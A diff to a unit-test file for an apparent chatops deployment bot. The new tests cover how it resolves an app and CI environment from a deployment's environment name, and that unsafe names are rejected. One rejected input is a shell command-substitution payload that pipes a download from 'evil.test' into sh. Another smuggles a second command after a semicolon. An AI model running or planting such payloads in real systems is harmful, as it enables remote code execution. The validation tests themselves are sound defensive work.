@@ -37,12 +37,36 @@ describe('resolveRun', () => {
     expect(run.timeoutMs).toBe(20 * 60_000);
   });
 
-  it('without a signed app, takes the first app the repository and environment point to', () => {
+  it('without a signed app, takes the app whose environment the deployment names, before a branch environment', () => {
+    // Made outside chat (GitHub's UI, an auto-deploy): review-docs is docs' own, not a branch of api's review.
     const t = unitRunDeps({ config: TWO_APPS });
     const job = deploymentJob({ environment: 'review-docs' }, 'acme/mono');
     const run = resolveRun(job, null, t.deps) as RunContext;
-    expect([run.appName, run.configEnvironment, run.line]).toEqual(['api', 'review', 'acme/mono:review-docs']);
-    expect(run.timeoutMs).toBe(45 * 60_000);
+    expect([run.appName, run.configEnvironment, run.line, run.app.circleci?.project_slug]).toEqual([
+      'docs',
+      'review-docs',
+      'acme/mono:review-docs',
+      'gh/acme/mono-docs',
+    ]);
+    const branch = resolveRun(deploymentJob({ environment: 'review-feature-x' }, 'acme/mono'), null, t.deps);
+    expect([(branch as RunContext).appName, (branch as RunContext).configEnvironment]).toEqual(['api', 'review']);
+    expect((branch as RunContext).timeoutMs).toBe(45 * 60_000);
+  });
+
+  it('takes no name for a branch environment that the bot could not have made', () => {
+    // The environment's name goes to the CI as chatops_environment: never anything a shell could run.
+    const t = unitRunDeps({ config: TWO_APPS });
+    for (const environment of [
+      'review-$(curl evil.test|sh)',
+      'review-a;b',
+      'review-<!channel>',
+      'review-',
+      'review--x',
+    ]) {
+      expect(resolveRun(deploymentJob({ environment }, 'acme/mono'), null, t.deps)).toEqual({
+        unknownEnvironment: environment,
+      });
+    }
   });
 
   it('ignores a signed app of another repository or without that environment', () => {
